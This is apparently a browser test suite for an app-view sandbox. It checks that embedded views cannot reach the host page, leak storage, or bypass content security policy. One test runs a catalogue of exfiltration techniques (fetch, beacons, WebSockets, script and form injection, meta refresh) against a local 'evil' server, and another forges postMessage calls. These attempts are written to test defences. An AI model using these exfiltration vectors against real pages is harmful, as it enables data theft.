import { createServer } from 'node:http';
import { describe, expect, it } from 'vitest';
import { encodeSettings } from '../../../packages/core/src/features/apps/sandbox-settings.ts';
import { hasChromium } from '../../support/chromium.ts';
import { listening } from '../../support/listening.ts';
import { plainView } from './plain-view.ts';
import { type ShownOnStage, Stage } from './stage.ts';

/** A server that a view must not reach, and the requests it got. */
async function outside(): Promise<{ origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== '/favicon.ico') hits.push(request.url ?? '');
    response
      .setHeader('access-control-allow-origin', '*')
      .setHeader('content-type', 'text/html')
      .end('<!doctype html>out');
  });
  return { origin: new URL(await listening(server)).origin, hits };
}

async function showViews(views: Record<string, string>, options: object = {}, meta?: object) {
  const stage = await Stage.open({ views, ...(meta && { meta }) });
  const view = await stage.show(Object.keys(views)[0] as string, options as Record<string, unknown>);
  await view.ready();
  return { stage, view };
}

/** The result of an expression in the frame of a view, or the name of its error. */
async function tryInView(view: ShownOnStage, expression: string): Promise<unknown> {
  const frame = await view.frame();
  return frame.evaluate(`(async () => ${expression})().catch((error) => error.name)`);
}

const origins = ['own', 'opaque'] as const;

describe.skipIf(!hasChromium).each(origins)('a view with an origin that is %s', (origin) => {
  it('reaches neither the page that shows it, nor its proxy, nor an opener (AH-02)', async () => {
    const { stage, view } = await showViews({ plain: plainView() }, { origin });
    expect(await tryInView(view, 'top.document.title')).toBe('SecurityError');
    expect(await tryInView(view, 'parent.document.title')).toBe('SecurityError');
    expect(await tryInView(view, 'parent.stage')).toBe('SecurityError');
    expect(await tryInView(view, 'frameElement')).toBeNull();
    expect(await tryInView(view, 'opener')).toBeNull();
    expect(await tryInView(view, "[open('about:blank'), open('https://a.example', '_top')]")).toEqual([null, null]);
    await tryInView(view, "(top.location = 'about:blank')");
    await tryInView(view, "(parent.location = 'about:blank')");
    expect(await stage.page.evaluate('[location.origin, document.title]')).toEqual([stage.origin, 'Host']);
    expect(await view.state()).toBe('ready');
  });

  it('moves the history of the page neither back nor forward', async () => {
    const { stage, view } = await showViews({ plain: plainView() }, { origin });
    await stage.page.evaluate("for (const name of ['one', 'two', 'three']) history.pushState(name, '', '#' + name)");
    await stage.page.goBack();
    for (const step of ['history.back()', 'history.forward()', 'history.go(-2)']) {
      await tryInView(view, step);
      expect(await view.run('view.ping()')).toBeUndefined();
    }
    expect(await stage.page.evaluate('location.hash')).toBe('#two');
    expect(await view.state()).toBe('ready');
  });

  it('registers no service worker at any URL that would serve the next view', async () => {
    const { view } = await showViews({ plain: plainView() }, { origin });
    const addresses =
      "[location.pathname, '/worker.js', 'data:text/javascript,1', URL.createObjectURL(new Blob(['1']))]";
    const registered = await tryInView(
      view,
      `Promise.all(${addresses}.map(async (at) => navigator.serviceWorker.register(at).then(() => 'registered', () => 'refused')))`,
    );
    expect(registered).toSatisfy((all: unknown) => !JSON.stringify(all).includes('registered'));
  });

  it('can not open dialogs in front of the page, or download files', async () => {
    const { stage, view } = await showViews({ plain: plainView() }, { origin });
    const shownToPeople: string[] = [];
    stage.page.on('dialog', () => shownToPeople.push('dialog'));
    stage.page.on('download', () => shownToPeople.push('download'));
    expect(await tryInView(view, "[confirm('x'), prompt('x'), alert('x')]")).toEqual([false, null, undefined]);
    const refused = stage.page.waitForEvent('console', (line) => /download is disallowed/i.test(line.text()));
    await tryInView(
      view,
      "Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x' }).click()",
    );
    await refused;
    expect(shownToPeople).toEqual([]);
  });

  it('sends nothing to an undeclared origin in any way (AH-03)', async () => {
    const { origin: evil, hits } = await outside();
    const { stage, view } = await showViews({ plain: plainView() }, { origin });
    const ways = [
      `fetch('${evil}/fetch')`,
      `navigator.sendBeacon('${evil}/beacon', 'x')`,
      `new Image().src = '${evil}/image'`,
      `new EventSource('${evil}/events')`,
      `new WebSocket('${evil.replace('http', 'ws')}/socket')`,
      `new Worker('${evil}/worker')`,
      `import('${evil}/module')`,
      `navigator.serviceWorker.register('${evil}/service')`,
      `document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/script' }))`,
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${evil}/style' }))`,
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${evil}/prefetch' }))`,
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' }))`,
      `document.body.append(Object.assign(document.createElement('object'), { data: '${evil}/object' }))`,
      `document.body.append(Object.assign(document.createElement('video'), { src: '${evil}/video' }))`,
      `document.body.append(Object.assign(document.createElement('a'), { href: '${evil}/ping-target', ping: '${evil}/ping' }))`,
      `new FontFace('x', 'url(${evil}/font)').load()`,
    ];
    for (const way of ways) await tryInView(view, `(${way})`);
    const frame = await view.frame();
    // Each of these navigates away from the document if it works: so they come last, each in a new frame.
    for (const way of [
      `location = '${evil}/location'`,
      `Object.assign(document.body.appendChild(document.createElement('a')), { href: '${evil}/link' }).click()`,
      `Object.assign(document.body.appendChild(document.createElement('form')), { action: '${evil}/form', method: 'post' }).submit()`,
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${evil}/refresh' }))`,
    ]) {
      await frame.evaluate(`setTimeout(() => { ${way} })`).catch(() => {});
      const other = await stage.show('plain', { origin });
      await other.ready();
    }
    expect(hits).toEqual([]);
    // A control: with the same address declared, the request arrives.
    const { view: allowed } = await showViews({ plain: plainView() }, { origin }, { csp: { connectDomains: [evil] } });
    expect(await tryInView(allowed, `(await fetch('${evil}/declared')).status`)).toBe(200);
    expect(hits).toEqual(['/declared']);
  });

  it('can not choose a policy for itself by navigating to another sandbox (AH-03)', async () => {
    const { origin: evil, hits } = await outside();
    const { stage, view } = await showViews({ plain: plainView() }, { origin });
    const frame = await view.frame();
    const csp = { connectDomains: [evil], resourceDomains: [evil], frameDomains: [], baseUriDomains: [] };
    const looser = encodeSettings({ host: stage.origin, own: origin === 'own', relaxed: true, csp, permissions: [] });
    const violated = frame.page().waitForEvent('console', (line) => /frame-src/.test(line.text()));
    await frame.evaluate(`setTimeout(() => { location = '/view/${looser}' })`);
    await violated;
    expect(hits).toEqual([]);
    expect(frame.url()).not.toContain(looser);
  });

  it('can not impersonate or bypass its sandbox (AH-02, AH-07)', async () => {
    const script = `
      for (const name of ['proxy-ready', 'report', 'resource-ready', 'other']) send({ method: 'ui/notifications/sandbox-' + name, params: { kind: 'flood', dropped: 7, html: 'x' } });
      for (const target of [top, top.frames[0], top.frames[0].frames[0]]) {
        target.postMessage({ jsonrpc: '2.0', id: 'forged', method: 'ui/open-link', params: { url: 'https://forged.example' } }, '*');
      }
      tell('said');`;
    const stage = await Stage.open({ views: { first: plainView(), second: plainView(script) } });
    const first = await stage.show('first', { origin, answers: { openLink: true } });
    await first.ready();
    const view = await stage.show('second', { origin, answers: { openLink: true } });
    await view.ready();
    await stage.until('log', { data: 'said' });
    expect(await stage.noted('openLink')).toEqual([]);
    await expect
      .poll(() => view.run('view.reports.map((report) => report.kind)'))
      .toEqual(['refused', 'refused', 'refused', 'refused']);
    expect(await first.run('view.reports.length')).toBe(0);
  });
});

describe.skipIf(!hasChromium)('two views', () => {
  const keep = `
    localStorage.setItem('mine', 'secret'); document.cookie = 'a=1'; document.cookie = 'b=2; domain=localhost';
    const opening = indexedDB.open('mine', 1);
    opening.onsuccess = () => caches.open('mine').then(() => tell('kept'));`;
  const look = 'Promise.all([localStorage.length, document.cookie, indexedDB.databases(), caches.keys()])';

  it('share no storage and no cookies, even in one page (AH-05)', async () => {
    const stage = await Stage.open({ views: { keeping: plainView(keep), looking: plainView() } });
    await (await stage.show('keeping')).ready();
    await stage.until('log', { data: 'kept' });
    for (const name of ['looking', 'keeping']) {
      const other = await stage.show(name);
      await other.ready();
      if (name === 'looking') expect(await tryInView(other, look)).toEqual([0, '', [], []]);
    }
    expect(await stage.page.evaluate('[document.cookie, localStorage.length]')).toEqual(['', 0]);
    const frames = stage.page.frames().map((frame) => new URL(frame.url()).origin);
    expect(new Set(frames).size).toBe(frames.length);
  });

  it('share storage if the host gives them one partition', async () => {
    const stage = await Stage.open({ views: { keeping: plainView(keep), looking: plainView() } });
    await (await stage.show('keeping', { partition: 'weather' })).ready();
    await stage.until('log', { data: 'kept' });
    const other = await stage.show('looking', { partition: 'weather' });
    await other.ready();
    expect(await tryInView(other, "localStorage.getItem('mine')")).toBe('secret');
  });

  it('have no storage without an origin, and begin nevertheless (AH-05)', async () => {
    const { view } = await showViews({ plain: plainView() }, { origin: 'opaque' });
    expect(await tryInView(view, 'origin')).toBe('null');
    expect(await tryInView(view, 'localStorage')).toBe('SecurityError');
  });
});

describe.skipIf(!hasChromium)('the sandbox', () => {
  it('does nothing as a top-level page, or in a page that is not its host (AH-07)', async () => {
    const { stage, view } = await showViews({ plain: plainView() });
    const address = (await view.proxy()).url();
    const page = await stage.page.context().newPage();
    await page.goto(address);
    expect(await page.evaluate('[document.body.innerText, document.querySelectorAll("iframe").length]')).toEqual([
      expect.stringContaining('nothing to see here'),
      0,
    ]);
    const { origin: other } = await outside();
    await page.goto(other);
    const refused = page.waitForEvent('console', (line) => /frame-ancestors/.test(line.text()));
    await page.evaluate(`{
      globalThis.heard = [];
      addEventListener('message', ({ data }) => heard.push(data));
      document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(address)} }));
    }`);
    await refused;
    expect(await page.evaluate('heard')).toEqual([]);
  });

  it('grants permissions that the view requests and the host allows, and no others (AH-13)', async () => {
    const meta = { permissions: { camera: {}, clipboardWrite: {} } };
    const allowed =
      "['camera', 'microphone', 'geolocation', 'clipboard-write'].filter((name) => document.featurePolicy.allowsFeature(name))";
    for (const origin of origins) {
      const { view } = await showViews({ plain: plainView() }, { origin }, meta);
      expect(await tryInView(view, allowed)).toEqual([]);
      const permissions = ['camera', 'microphone'];
      const { view: granted } = await showViews({ plain: plainView() }, { origin, permissions }, meta);
      expect(await tryInView(granted, allowed)).toEqual(['camera']);
    }
  });

  it('allows eval only if it is relaxed (AH-06)', async () => {
    const evaluating = plainView("try { tell(new Function('return 6 * 7')()) } catch (error) { tell(error.name) }");
    const { stage } = await showViews({ evaluating });
    await stage.until('log', { data: 'EvalError' });
    await stage.until('report', { kind: 'policy', directive: 'script-src', blocked: 'eval' });
    const { stage: relaxed } = await showViews({ evaluating }, { relaxed: true });
    await relaxed.until('log', { data: 42 });
    expect(await relaxed.noted('report')).toEqual([]);
  });

  it('reports what the policy blocked, and the line that would allow it (AH-06)', async () => {
    const { stage } = await showViews({
      plain: plainView("fetch('https://api.example/x').catch(() => {}); new Image().src = 'https://cdn.example/a.png'"),
    });
    await stage.until('report', {
      directive: 'connect-src',
      advice: "csp: { connectDomains: ['https://api.example'] }",
    });
    await stage.until('report', { directive: 'img-src', advice: "csp: { resourceDomains: ['https://cdn.example'] }" });
    expect(await stage.noted('problem')).toEqual([]);
  });
});
